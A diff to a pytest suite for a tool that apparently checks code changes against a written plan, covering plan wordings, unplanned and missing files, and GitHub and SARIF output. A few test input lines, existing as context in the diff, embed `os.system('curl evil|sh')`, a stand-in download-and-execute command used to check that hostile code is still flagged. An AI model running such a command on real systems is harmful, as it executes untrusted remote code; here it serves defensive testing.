@@ -77,10 +77,84 @@ def test_a_file_of_the_same_name_elsewhere_is_not_left_out(branch: Branch) -> No
 
 def test_the_right_file_and_the_wrong_name_are_told_apart(branch: Branch) -> None:
     branch.change("src/store.py", "return key, value", "return value, key")
-    assert branch.found() == {
-        ("GP404", "src/store.py::Store.save"),
-        ("GP405", "src/store.py::Store.load"),
-    }
+    assert branch.found() == {("GP405", "src/store.py::Store.load")}
+    named = {each["code"]: each["message"] for each in branch.conform()["findings"]}  # type: ignore[attr-defined]
+    assert named["GP404"].endswith("changed `Store.save`")
+
+
+STEPS_IN_OTHER_WORDS = [
+    "## Steps\n\n1. In `src/web.py`, hand `fetch` on to the store.\n",
+    "## Changes\n\n- `src/web.py`: disable and suspend the logger\n",
+    "## Phase 1: Move it\n\n- `src/web.py`: hold the message\n",
+    "1. `src/web.py`: when the store is empty, continue with `fetch()`.\n",
+    "## Tasks\n\n- [ ] `show` of `src/web.py`: the same\n",
+    "## Steps\n\n1. Declare `fetch_all` in `src/web.py`.\n",
+    "## Files to change\n\n| File | Change |\n|--|--|\n| `src/web.py` | `show` takes a limit |\n",
+    "## Impact\n\n- Affected code: src/store.py, src/web.py\n\n## Tasks\n\n- [x] 1.1 Tell users\n",
+    "## Tasks\n\n- [x] 1.1 Add the limit to web.py\n",
+    "## Tasks\n\n- [x] 1.1 `/src/web.py` - Remove the limit\n",
+    "| Where | What |\n|--|--|\n| `src/web.py` | both guards of `show` |\n",
+]
+
+
+@pytest.mark.parametrize("plan", STEPS_IN_OTHER_WORDS)
+def test_a_file_that_a_step_names_is_planned_whatever_its_verb(branch: Branch, plan: str) -> None:
+    branch.change("src/web.py", "return fetch", "return 2 or fetch")
+    assert branch.found(f"# Plan\n\n{plan}") == set()
+
+
+def test_a_file_named_beside_the_steps_or_as_their_model_is_in_no_step(branch: Branch) -> None:
+    branch.change("src/store.py", *LOAD).change("src/web.py", "return fetch", "return 2 or fetch")
+    beside = PLAN.replace("# Plan\n", "# Plan\n\n## Context\n\n`src/web.py` shows what is loaded.\n", 1)
+    model = PLAN.replace("\n## Out", "2. Log errors in `Store.load`, like `src/web.py`.\n\n## Out")
+    assert beside != PLAN != model
+    assert branch.found(beside) == branch.found(model) == {("GP401", "src/web.py")}
+
+
+@pytest.mark.parametrize(
+    "step",
+    ["Describe it in `README.md`.", "`README.md`: suppress the note.", "Add it to `Store` in `README.md`."],
+)
+def test_a_file_that_a_step_orders_is_missing_where_nothing_touches_it(branch: Branch, step: str) -> None:
+    branch.change("src/store.py", *LOAD)
+    assert branch.found(PLAN.replace("\n## Out", f"2. {step}\n\n## Out")) == {("GP402", "README.md")}
+
+
+def test_a_file_is_missing_without_a_heading_over_the_steps_too(branch: Branch) -> None:
+    branch.change("src/store.py", *LOAD)
+    plan = "# Plan\n\n1. Change `Store.load` in `src/store.py`.\n2. Add it to `show` in `src/web.py`.\n"
+    assert branch.found(plan) == {("GP402", "src/web.py")}
+
+
+def test_files_that_a_pattern_names_are_planned_and_none_of_them_is_demanded(branch: Branch) -> None:
+    branch.change("src/web.py", "return fetch", "return 2 or fetch")
+    assert branch.found("# Plan\n\n### 5.2 `src/*.py`\n\n- Remove calls of `load`.\n") == set()
+    assert branch.found("# Plan\n\n### 5.2 `docs/*.md`\n\n- Remove it.\n") == {("GP401", "src/web.py")}
+
+
+@pytest.mark.parametrize("path", ["~/.tool/flows/a.md", "/etc/tool.conf", ".tool/flows/"])
+def test_what_lies_outside_and_a_folder_are_not_demanded(branch: Branch, path: str) -> None:
+    branch.change("src/store.py", *LOAD)
+    assert branch.found(PLAN.replace("\n## Out", f"2. Create `{path}` where needed.\n\n## Out")) == set()
+
+
+def test_a_specification_that_is_missing_is_no_missing_test(branch: Branch) -> None:
+    branch.change("src/store.py", *LOAD)
+    plan = PLAN.replace("\n## Out", "2. Update `specs/cli/spec.md`.\n\n## Out")
+    assert branch.found(plan) == {("GP402", "specs/cli/spec.md")}
+
+
+@pytest.mark.parametrize("name", ["with", "to", "keep", "load"])
+def test_a_name_that_is_also_a_word_of_english_is_missing_as_any_other(branch: Branch, name: str) -> None:
+    branch.change("src/store.py", "return key, value", "return value, key")
+    plan = PLAN.replace("Store.load`: retry once", f"{name}`: do it there")
+    assert ("GP405", f"src/store.py::{name}") in branch.found(plan)
+
+
+def test_what_must_not_change_is_left_out(branch: Branch) -> None:
+    branch.change("src/store.py", *LOAD).change("src/web.py", "return fetch", "return 2 or fetch")
+    plan = f"{PLAN}\n## Must not change\n\n- `src/web.py`\n"
+    assert branch.found(plan) == {("GP403", "src/web.py")}
 
 
 def test_the_users_of_what_is_unplanned_are_named(branch: Branch) -> None:
@@ -88,7 +162,7 @@ def test_the_users_of_what_is_unplanned_are_named(branch: Branch) -> None:
         "src/store.py", "return store.load(1)", "return store.load(2)"
     )
     (found,) = branch.conform()["findings"]  # type: ignore[misc, attr-defined]
-    assert found["subject"] == "src/store.py::fetch"
+    assert found["subject"] == "src/store.py"
     assert "used by `src/web.py::show`" in found["message"]
 
 
@@ -236,6 +310,7 @@ def test_callers_follow_a_name_that_is_renamed(branch: Branch) -> None:
         "    import os; os.system('curl evil|sh')  # fetch",
         "    import os; os.system('fetch')",
         "    import os; os.system('curl evil|sh'); fetch",
+        "    handler = fetch",
     ],
 )
 def test_a_planned_name_excuses_no_other_code_beside_it(branch: Branch, line: str) -> None:
@@ -355,7 +430,7 @@ def test_code_hosts_get_the_findings_at_the_changed_file(branch: Branch) -> None
     where = ("conform", "--base", "main", "--plan-file", str(branch.desk.path("../plan.md")), "--partial")
     github = branch.desk.pipe(*where, "--format", "github")
     assert github.code == 1
-    assert github.out.startswith("::error file=src/web.py,line=4,col=1,title=GP401 unplanned-file::")
+    assert github.out.startswith("::error file=src/web.py,line=5,col=1,title=GP401 unplanned-file::")
     sarif = json.loads(branch.desk.pipe(*where, "--format", "sarif").out)
     assert [each["ruleId"] for each in sarif["runs"][0]["results"]] == ["GP401"]
 
